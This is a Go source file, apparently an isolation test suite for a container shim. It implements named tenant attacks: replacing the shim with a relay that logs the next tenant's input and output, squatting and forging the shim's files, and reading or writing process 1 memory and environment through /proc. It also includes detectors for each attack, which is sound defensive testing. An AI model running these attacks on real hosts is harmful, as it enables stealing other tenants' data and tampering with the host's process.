package main

import (
	"errors"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"

	"golang.org/x/sys/unix"
)

// The shim's paths in a container. They are literals, because an attacker knows
// the source.
const (
	shimDir  = "/.hostler"
	shimBin  = shimDir + "/bin"
	shimRun  = shimDir + "/run"
	shimSock = shimRun + "/sock"

	shimAbstract = "@hostler-shim"
	movedDir     = "/.old"
	mirrorDir    = "/.hostler-volumes"
	stolenLog    = "stolen"
)

func shimAttacks() []attack {
	return []attack{
		{Name: "shim-rename", Text: "rename the shim's directory and replace it with a relay to the real one that records the next tenant", run: shimRename, seen: seenStolen},
		{Name: "shim-exchange", Text: "exchange the shim's directory with one of the tenant's in one step", run: shimExchange, seen: seenStolen},
		{Name: "shim-program", Text: "replace the shim's program by rename, write, link and removal", run: shimProgram, seen: seenStolen},
		{Name: "shim-bin-link", Text: "replace the directory of the shim's program with a symbolic link", run: shimBinLink, seen: seenStolen},
		{Name: "shim-files", Text: "leave files next to the shim's program, its socket and its directory", run: shimFiles, seen: seenNearShim},
		{Name: "shim-names", Text: "leave directories, links and FIFOs next to the shim whose names are the message", run: shimNames, seen: seenNearShim},
		{Name: "shim-metadata", Text: "change modes, times, attributes and ACLs of the shim's directories and program", run: shimMetadata, seen: nil},
		{Name: "shim-began", Text: "remove and forge the records that the shim keeps of the container's life", run: shimStartMarker, seen: seenNearShim},
		{Name: "shim-aside", Text: "reach the writable side of a read-only volume, and move it away", run: shimMirror, seen: seenNearShim},
		{Name: "shim-copy", Text: "run the shim's own tools as the tenant, on every directory", run: shimCopy},
		{Name: "shim-above", Text: "rename every directory at the top of the root, the shim's last", run: shimAbove, seen: seenStolen},
		{Name: "shim-squat-names", Text: "create what an older or newer shim would read: next to every known path", run: shimSquatNames, seen: seenNearShim},
		{Name: "shim-memory", Text: "write to the memory and read the environment of process 1 through /proc", run: shimMemory},
	}
}

// plant puts this program where the engine looks for the shim.
func plant() error {
	if err := os.MkdirAll(shimBin, 0o755); err != nil {
		return err
	}
	return copySelf(filepath.Join(shimBin, "shim"))
}

func copySelf(to string) error {
	b, err := os.ReadFile("/proc/self/exe")
	if err != nil {
		return err
	}
	return os.WriteFile(to, b, 0o755)
}

func shimRename(tenant) error {
	return errors.Join(os.Rename(shimDir, movedDir), plant())
}

func shimExchange(tenant) error {
	if err := os.MkdirAll("/.mine/bin", 0o755); err != nil {
		return err
	}
	if err := copySelf("/.mine/bin/shim"); err != nil {
		return err
	}
	err := unix.Renameat2(unix.AT_FDCWD, "/.mine", unix.AT_FDCWD, shimDir, unix.RENAME_EXCHANGE)
	if err == nil {
		return os.Rename("/.mine", movedDir)
	}
	return errors.Join(err, os.RemoveAll("/.mine"))
}

func shimProgram(tenant) error {
	path := shimBin + "/shim"
	return anySucceeded(
		func() error {
			return errors.Join(copySelf(path+".new"), os.Rename(path+".new", path))
		}(),
		copySelf(path), os.Remove(path), os.Link("/app/server", path+"2"),
		os.Rename(shimBin, shimDir+"/old"), os.Symlink("/app/server", shimBin+"/shim3"),
	)
}

func shimBinLink(tenant) error {
	err := os.Rename(shimBin, shimDir+"/bin.old")
	if err != nil {
		err = os.Remove(shimBin)
	}
	if err != nil {
		return err
	}
	return os.Symlink("/app", shimBin)
}

func shimFiles(t tenant) error {
	var all []error
	for _, dir := range []string{shimDir, shimBin, shimRun, mirrorDir} {
		all = append(all, os.WriteFile(dir+"/residue", []byte(t.marker), 0o666))
	}
	return anySucceeded(all...)
}

func shimNames(t tenant) error {
	var all []error
	for _, dir := range []string{shimDir, shimBin, shimRun, mirrorDir} {
		all = append(all, os.Mkdir(dir+"/"+t.marker, 0o777), os.Symlink(t.marker, dir+"/link"), unix.Mkfifo(dir+"/fifo-"+t.marker, 0o666))
	}
	return anySucceeded(all...)
}

func shimMetadata(t tenant) error {
	var all []error
	for _, path := range []string{shimDir, shimBin, shimRun, shimBin + "/shim", shimSock} {
		all = append(all, os.Chmod(path, 0o751), setTimes(path, forgedTime),
			unix.Setxattr(path, "user.residue", []byte(t.marker), 0), setACL(path))
	}
	return anySucceeded(all...)
}

func shimStartMarker(t tenant) error {
	return anySucceeded(os.Remove(shimRun+"/began"), os.WriteFile(shimRun+"/began", []byte(t.marker), 0o600),
		os.WriteFile(shimRun+"/exit", []byte(t.marker), 0o600))
}

func shimMirror(t tenant) error {
	all := []error{
		os.WriteFile("/ro/residue", []byte(t.marker), 0o666),
		os.Rename(mirrorDir, "/.aside"),
		os.Chmod(mirrorDir, 0o777),
		os.Chmod("/ro", 0o777),
		unix.Setxattr("/ro", "user.residue", []byte(t.marker), 0),
	}
	for _, name := range []string{"/ro", "/volume-3", "/volume-4"} {
		all = append(all, os.WriteFile(mirrorDir+name+"/residue", []byte(t.marker), 0o666))
	}
	return anySucceeded(all...)
}

// shimCopy has the shim's own program do what the tenant may not do.
func shimCopy(t tenant) error {
	var all []error
	for _, args := range [][]string{
		{"untar", "/rootonly"}, {"untar", shimRun}, {"tar", "/rootonly"}, {"connect", shimSock}, {"install", shimBin + "/mine"}, {"init"},
	} {
		c := exec.Command(shimBin+"/shim", args...)
		c.Stdin = strings.NewReader(t.marker)
		all = append(all, c.Run())
	}
	return anySucceeded(all...)
}

func shimAbove(tenant) error {
	entries, err := os.ReadDir("/")
	if err != nil {
		return err
	}
	moved := errors.New("nothing could be renamed")
	for _, e := range entries {
		// The directory of this program stays, so that there is a next tenant.
		if e.Name() == "app" || e.Name() == "attacker" || !e.IsDir() {
			continue
		}
		if os.Rename("/"+e.Name(), "/moved-"+e.Name()) == nil {
			moved = nil
		}
	}
	if _, err := os.Lstat(shimDir); err != nil {
		return errors.Join(os.Rename("/moved-.hostler", movedDir), plant())
	}
	return moved
}

func shimSquatNames(t tenant) error {
	var all []error
	for _, name := range []string{
		"/hostler", "/.hostler.new", "/.hostler2", shimDir + "/sock", shimDir + "/run2", shimBin + "/shim.new", "/run/hostler.sock", "/tmp/hostler",
		shimDir + "/state", shimDir + "/epoch", shimDir + "/fence", shimRun + "/fence", shimRun + "/seal",
	} {
		all = append(all, os.WriteFile(name, []byte(t.marker), 0o600))
	}
	return anySucceeded(all...)
}

func shimMemory(tenant) error {
	var all []error
	for _, name := range []string{"mem", "environ", "maps", "auxv", "io", "fd/0", "root/etc/passwd", "cwd/x", "attr/current"} {
		f, err := os.OpenFile("/proc/1/"+name, os.O_RDWR, 0)
		if err == nil {
			f.Close()
		}
		all = append(all, err)
		_, err = os.ReadFile("/proc/1/" + name)
		all = append(all, err)
	}
	return anySucceeded(all...)
}

// seenNearShim checks the shim's directories for what was added.
func seenNearShim(t tenant) []string {
	var seen []string
	for _, dir := range []string{shimDir, shimBin, shimRun, mirrorDir, "/ro", "/", "/run"} {
		_ = filepath.WalkDir(dir, func(path string, d os.DirEntry, err error) error {
			if err != nil {
				return nil
			}
			if d.IsDir() && dir == "/" && path != "/" {
				return filepath.SkipDir
			}
			if b, err := readSome(path); err == nil && strings.Contains(string(b), t.marker) {
				seen = append(seen, path+" holds the marker")
			}
			if strings.Contains(d.Name(), t.marker) || d.Name() == "residue" {
				seen = append(seen, path+" is there")
			}
			return nil
		})
	}
	return seen
}

// seenStolen returns what an impersonator has recorded, and where.
func seenStolen(tenant) []string {
	var seen []string
	for _, path := range []string{movedDir, "/tmp/" + stolenLog, "/" + stolenLog, "/app/" + stolenLog} {
		if _, err := os.Lstat(path); err == nil {
			seen = append(seen, path+" is there: the shim's place was taken")
		}
	}
	return seen
}

// impersonate is the tenant's program in the shim's place: it passes everything on
// to the real one and keeps a copy.
func impersonate() {
	log, err := os.OpenFile("/"+stolenLog, os.O_CREATE|os.O_APPEND|os.O_WRONLY, 0o666)
	if err != nil {
		log, err = os.OpenFile("/tmp/"+stolenLog, os.O_CREATE|os.O_APPEND|os.O_WRONLY, 0o666)
	}
	check(err)
	fmt.Fprintln(log, "started as", os.Args)
	c := exec.Command(movedDir+"/bin/shim", os.Args[1:]...)
	c.Stdin, c.Stdout, c.Stderr = io.TeeReader(os.Stdin, log), io.MultiWriter(os.Stdout, log), os.Stderr
	if err := c.Run(); err != nil {
		os.Exit(1)
	}
}
